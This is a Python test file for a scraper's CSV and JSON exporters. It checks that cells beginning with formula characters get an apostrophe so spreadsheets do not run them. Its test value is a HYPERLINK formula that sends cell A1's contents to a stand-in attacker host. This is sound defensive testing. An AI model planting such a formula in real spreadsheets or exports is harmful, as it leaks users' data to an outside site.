"""What a spreadsheet would compute when it opens one of our CSV files."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from scrapy.utils.test import get_crawler

from cleaners.records import Article, Engagement
from output.query import Answer
from pipelines.answers import write_csv, write_json
from pipelines.feed import CsvArticleExporter, JsonLinesArticleExporter
from pipelines.formulas import guarded

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
LURE = '=HYPERLINK("https://evil.example/?"&A1,"Salt")'


def answer(*titles):
    table = pa.table({"title": list(titles), "likes": [-5] * len(titles)})
    return Answer(table.schema, iter(table.to_batches()))


def rows(written: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written, newline="")))


def exported(kind, **settings) -> str:
    file = io.BytesIO()
    exporter = kind.from_crawler(get_crawler(settings_dict=settings), file) if settings else kind(file)
    exporter.start_exporting()
    exporter.export_item(
        Article(
            article_id="0" * 16,
            url="u",
            fetched_url="",
            site="",
            title=LURE,
            text="- five\n=1",
            engagement=Engagement(likes=-5),
        )
    )
    exporter.finish_exporting()
    return file.getvalue().decode()


@pytest.mark.parametrize("start", STARTS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(start):
    assert guarded(f"{start}1+1") == f"'{start}1+1"
    assert guarded(f"  {start}1+1") == f"'  {start}1+1"


@given(st.text())
def test_no_cell_begins_like_a_formula_and_nothing_else_changes(text):
    cell = str(guarded(text))
    assert not cell.lstrip(" ").startswith(STARTS)
    assert cell.removeprefix("'") == text or cell == text


def test_an_answer_in_csv_is_safe_in_a_spreadsheet_and_its_numbers_stay():
    file = io.StringIO()
    write_csv(answer(LURE, "Salt"), file)
    assert rows(file.getvalue()) == [["title", "likes"], [f"'{LURE}", "-5"], ["Salt", "-5"]]


def test_who_wants_an_answer_as_it_is_gets_that():
    file = io.StringIO()
    write_csv(answer(LURE), file, guard=False)
    assert rows(file.getvalue())[1] == [LURE, "-5"]


def test_json_lines_hold_what_the_dataset_holds():
    file = io.StringIO()
    write_json(answer("=1+1"), file)
    assert '"=1+1"' in file.getvalue()
    assert '"title": "=HYPERLINK' in exported(JsonLinesArticleExporter)


def test_a_csv_feed_is_safe_in_a_spreadsheet_unless_the_setting_says_otherwise():
    names, row = rows(exported(CsvArticleExporter, CSV_GUARD=True))
    cells = dict(zip(names, row, strict=True))
    assert (cells["title"], cells["text"], cells["likes"]) == (f"'{LURE}", "'- five\n=1", "-5")
    assert LURE in rows(exported(CsvArticleExporter, CSV_GUARD=False))[1]


def test_the_query_command_hears_of_the_setting(scrapy):
    question = f"SELECT '{LURE}' AS title"
    assert rows(scrapy("query", "--csv", question).stdout)[1] == [f"'{LURE}"]
    assert rows(scrapy("query", "--csv", "-s", "CSV_GUARD=0", question).stdout)[1] == [LURE]
